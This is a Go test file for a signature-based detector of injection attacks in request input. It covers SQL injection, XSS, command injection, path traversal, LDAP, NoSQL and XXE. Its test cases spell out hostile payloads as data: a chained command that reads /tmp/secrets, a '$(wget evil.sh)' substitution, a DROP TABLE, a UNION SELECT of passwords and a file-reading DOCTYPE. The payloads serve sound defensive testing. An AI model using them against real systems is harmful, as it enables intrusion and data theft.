package detect

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func newDetector(t *testing.T) *Detector {
	t.Helper()
	d, err := New(Config{})
	if err != nil {
		t.Fatalf("New returned error: %v", err)
	}
	return d
}

func TestDetectCategories(t *testing.T) {
	tests := []struct {
		name     string
		surface  string
		category Category
	}{
		{"sqli tautology", `{"q":"' OR 1=1 --"}`, CategorySQLInjection},
		{"sqli union", "id=1 UNION SELECT username,password FROM users", CategorySQLInjection},
		{"sqli stacked", "name=x'; DROP TABLE users", CategorySQLInjection},
		{"sqli time based", "id=1 AND SLEEP(5)", CategorySQLInjection},
		{"xss script tag", `comment=<script>alert(1)</script>`, CategoryXSS},
		{"xss js uri", `url=javascript:alert(document.domain)`, CategoryXSS},
		{"xss event handler", `<img src=x onerror=alert(1)>`, CategoryXSS},
		{"cmdi chained", "host=example.com; cat /tmp/secrets", CategoryCommandInjection},
		{"cmdi substitution", "name=$(wget evil.sh)", CategoryCommandInjection},
		{"traversal dotdot", "file=../../../../var/log/app.log", CategoryPathTraversal},
		{"traversal encoded", "file=%2e%2e%2fconfig.yml", CategoryPathTraversal},
		{"ldap filter break", "user=admin)(|(uid=*", CategoryLDAPInjection},
		{"nosql operator", `{"age":{"$gt":0}}`, CategoryNoSQLInjection},
		{"nosql js", `q=db.users.find({})`, CategoryNoSQLInjection},
	}

	d := newDetector(t)
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := d.Detect(tt.surface)
			if !res.Detected {
				t.Fatalf("Detect(%q) found nothing", tt.surface)
			}
			if res.Category != tt.category {
				t.Errorf("category = %s, want %s (pattern %s)", res.Category, tt.category, res.PatternID)
			}
			if res.PatternID == "" {
				t.Error("empty pattern id on detection")
			}
		})
	}
}

func TestDetectClean(t *testing.T) {
	clean := []string{
		"GET /api/posts?page=2&sort=recent",
		`{"title":"hello world","body":"nothing odd here"}`,
		"user-agent=Mozilla/5.0 (X11; Linux x86_64)",
		"",
	}
	d := newDetector(t)
	for _, s := range clean {
		if res := d.Detect(s); res.Detected {
			t.Errorf("Detect(%q) = %s/%s, want clean", s, res.Category, res.PatternID)
		}
	}
}

func TestDetectDeterministicFirstMatch(t *testing.T) {
	// Matches both sql_injection and xss; sql_injection comes first
	// in the evaluation order and must always win.
	surface := `q=' OR 1=1 --<script>alert(1)</script>`
	d := newDetector(t)

	first := d.Detect(surface)
	if !first.Detected || first.Category != CategorySQLInjection {
		t.Fatalf("first detection = %+v, want sql_injection", first)
	}
	for i := 0; i < 50; i++ {
		res := d.Detect(surface)
		if res.Category != first.Category || res.PatternID != first.PatternID {
			t.Fatalf("iteration %d: got %s/%s, want %s/%s",
				i, res.Category, res.PatternID, first.Category, first.PatternID)
		}
	}
}

func TestDetectSampleTruncation(t *testing.T) {
	long := "<script>" + strings.Repeat("A", 1000)
	d := newDetector(t)
	res := d.Detect(long)
	if !res.Detected {
		t.Fatal("expected detection")
	}
	if len(res.Sample) != 200 {
		t.Errorf("sample length = %d, want 200", len(res.Sample))
	}
}

func TestDetectInspectionCap(t *testing.T) {
	d, err := New(Config{MaxInspectBytes: 100})
	if err != nil {
		t.Fatal(err)
	}
	// Payload sits beyond the inspection cap.
	surface := strings.Repeat("a", 200) + "<script>alert(1)</script>"
	if res := d.Detect(surface); res.Detected {
		t.Errorf("payload past inspection cap should not match, got %s", res.PatternID)
	}
}

func TestBuiltinCategoryOrder(t *testing.T) {
	want := []Category{
		CategorySQLInjection,
		CategoryXSS,
		CategoryCommandInjection,
		CategoryPathTraversal,
		CategoryLDAPInjection,
		CategoryNoSQLInjection,
	}
	cats := newDetector(t).Categories()
	if len(cats) != len(want) {
		t.Fatalf("categories = %v, want %v", cats, want)
	}
	for i, c := range cats {
		if c != want[i] {
			t.Errorf("category[%d] = %s, want %s", i, c, want[i])
		}
	}
}

func TestExtensionCategoryOrder(t *testing.T) {
	d, err := New(Config{
		Extra: []SignatureSet{
			{Category: "xxe", Patterns: []Signature{{ID: "xxe-doctype", Pattern: `(?i)<!DOCTYPE[^>]*\bSYSTEM\b`}}},
		},
	})
	if err != nil {
		t.Fatal(err)
	}

	cats := d.Categories()
	if cats[len(cats)-1] != "xxe" {
		t.Errorf("extension category not last: %v", cats)
	}

	res := d.Detect(`<!DOCTYPE foo SYSTEM "file:///etc/hostname">`)
	if !res.Detected || res.Category != "xxe" {
		t.Errorf("extension signature did not match: %+v", res)
	}
}

func TestExtraExtendsBuiltinCategory(t *testing.T) {
	d, err := New(Config{
		Extra: []SignatureSet{
			{Category: CategorySQLInjection, Patterns: []Signature{{ID: "sqli-custom", Pattern: `(?i)xp_dirtree`}}},
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	res := d.Detect("a=xp_dirtree")
	if !res.Detected || res.PatternID != "sqli-custom" {
		t.Errorf("custom builtin-category signature did not match: %+v", res)
	}
}

func TestNewRejectsBadPattern(t *testing.T) {
	_, err := New(Config{
		Extra: []SignatureSet{
			{Category: "bad", Patterns: []Signature{{ID: "broken", Pattern: `([`}}},
		},
	})
	if err == nil {
		t.Fatal("expected compile error")
	}
}

func TestLoadSignatureFile(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "signatures.yaml")
	content := `signatures:
  - category: xxe
    patterns:
      - id: xxe-entity
        pattern: "<!ENTITY"
`
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}

	sets, err := LoadSignatureFile(path)
	if err != nil {
		t.Fatalf("LoadSignatureFile returned error: %v", err)
	}
	if len(sets) != 1 || sets[0].Category != "xxe" || len(sets[0].Patterns) != 1 {
		t.Errorf("unexpected sets: %+v", sets)
	}
}

func TestLoadSignatureFileRejectsIncomplete(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "signatures.yaml")
	content := `signatures:
  - category: xxe
    patterns:
      - pattern: "<!ENTITY"
`
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := LoadSignatureFile(path); err == nil {
		t.Fatal("expected error for signature without id")
	}
}
